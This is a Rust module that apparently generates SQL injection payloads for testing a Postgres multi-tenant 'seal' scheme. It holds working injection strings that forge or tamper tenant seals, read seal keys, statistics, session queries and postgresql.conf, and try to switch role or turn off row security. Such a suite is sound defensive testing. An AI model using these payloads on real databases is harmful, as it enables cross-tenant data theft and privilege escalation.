//! Payloads against the seal itself: the setting set together with a seal that the attacker could make, and ways to the
//! keys.

use crate::endpoint::Endpoint::{Echo, First, Search};
use crate::payloads::{Payload, SET};

pub(crate) fn all() -> Vec<Payload> {
    let own = "current_setting('rowhouse.seal')";
    let b = "'00000000-0000-0000-0000-00000000000b'";
    let seals = [
        "''".to_owned(),
        "'x'".to_owned(),
        "NULL".to_owned(),
        b.to_owned(),
        format!("repeat('0', 64) || {b}"),
        // The own seal with the other tenant in it.
        format!("left({own}, 158) || {b}"),
        format!("overlay({own} placing 'b' from 194)"),
        format!("{own} || {b}"),
        format!("left({own}, 64) || left(substr({own}, 65), 94) || {b}"),
        // Without a process, and for ever.
        format!("left({own}, 84) || '0000000000' || repeat('0', 64) || {b}"),
        format!("left({own}, 74) || '9999999999' || '0000000000' || repeat('0', 64) || {b}"),
        format!("replace({own}, '000a', '000b')"),
        format!("upper(left({own}, 64)) || substr({own}, 65, 94) || {b}"),
        // A digest of what can be read, in the place of the MAC.
        format!(
            "encode(sha256(convert_to(substr({own}, 65, 94) || {b}, 'UTF8')), 'hex') || substr({own}, 65, 94) || {b}"
        ),
        format!(
            "encode(sha256(''), 'hex') || '1t00000000' || '9999999999' || '0000000000' || repeat('0', 64) || {b}"
        ),
        // Length extension of nothing.
        format!("left({own}, 158) || {b} || repeat(chr(1), 64)"),
    ];
    let mut all = Vec::new();
    for seal in &seals {
        for read in ["title", "first_title()"] {
            all.push((
                Search,
                format!(
                    "zz' UNION ALL SELECT 'x', set_config('rowhouse.seal', {seal}, true) UNION ALL SELECT 'y', {SET} \
                     UNION ALL SELECT n::text, {read} FROM items -- "
                ),
            ));
        }
        // For the session: the next statement's head must not care.
        all.push((
            First,
            format!("zz' UNION ALL SELECT set_config('rowhouse.seal', {seal}, false), set_config('app.current_tenant_id', {b}, false) -- "),
        ));
    }
    let keys = [
        "(SELECT string_agg(k::text, ',') FROM rowhouse.seal_keys AS k)",
        "query_to_xml('SELECT * FROM rowhouse.seal_keys', true, false, '')::text",
        "table_to_xml('rowhouse.seal_keys', true, false, '')::text",
        "rowhouse.new_seal_key('app.current_tenant_id', 'uuid', '{}')",
        "(SELECT string_agg(most_common_vals::text, ',') FROM pg_stats WHERE tablename = 'seal_keys')",
        "(SELECT string_agg(histogram_bounds::text, ',') FROM pg_stats WHERE schemaname = 'rowhouse')",
        "(SELECT string_agg(stavalues1::text, ',') FROM pg_statistic)",
        "(SELECT string_agg(query, ',') FROM pg_stat_activity)",
        "(SELECT string_agg(statement, ',') FROM pg_prepared_statements)",
        "(SELECT string_agg(statement, ',') FROM pg_cursors)",
        "(SELECT string_agg(name || setting, ',') FROM pg_settings)",
        "(SELECT string_agg(prosrc, ',') FROM pg_proc WHERE pronamespace = 'rowhouse'::regnamespace)",
        "pg_read_file('postgresql.conf')",
        "(SELECT string_agg(s::text, ',') FROM pg_file_settings AS s)",
        "rowhouse.claim('app.current_tenant_id')",
        "rowhouse.tenant()::text",
        "current_setting('rowhouse.seal')",
        "set_config('session_authorization', 'rowhouse_owner', true)",
        "set_config('role', 'rowhouse_owner', true)",
        "set_config('row_security', 'off', true) || (SELECT max(title) FROM items)",
    ];
    all.extend(
        keys.iter()
            .map(|expression| (Echo, format!("' || {expression} || '"))),
    );
    all.into_iter()
        .map(|(endpoint, text)| Payload { endpoint, text })
        .collect()
}
